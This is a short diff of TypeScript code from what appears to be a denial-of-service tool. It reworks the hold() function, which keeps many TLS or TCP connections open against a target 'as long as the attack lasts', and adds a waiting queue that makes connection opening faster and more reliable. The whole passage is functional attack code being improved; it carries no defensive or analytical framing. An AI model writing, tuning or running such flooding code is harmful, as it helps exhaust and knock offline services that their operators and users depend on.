@@ -122,31 +122,37 @@ function attack(socket: net.Socket): void {
   }
 }
 
-/** Keeps one connection open as long as the attack lasts. */
+/** Connections that wait until fewer are being opened. */
+const waiting: number[] = [];
+
+/** Keeps connection `n` open as long as the attack lasts. */
 function hold(n: number): void {
   if (stopped) return;
   if (opening >= OPENING) {
-    setTimeout(() => hold(n), AGAIN_MS);
+    waiting.push(n);
     return;
   }
   opening++;
-  let waiting = true;
+  let settled = false;
   const settle = () => {
-    if (waiting) opening--;
-    waiting = false;
+    if (settled) return;
+    settled = true;
+    opening--;
+    const next = waiting.shift();
+    if (next !== undefined) hold(next);
   };
   const socket = connect(n);
   socket.once(socket instanceof tls.TLSSocket ? "secureConnect" : "connect", () => {
-    settle();
     opened++;
     open.add(socket);
+    settle();
     attack(socket);
   });
   socket.on("error", () => {});
   socket.resume();
   socket.once("close", () => {
-    settle();
     open.delete(socket);
+    settle();
     if (stopped) return;
     ended++;
     setTimeout(() => hold(n), task.what === "handshakes" ? 0 : AGAIN_MS);
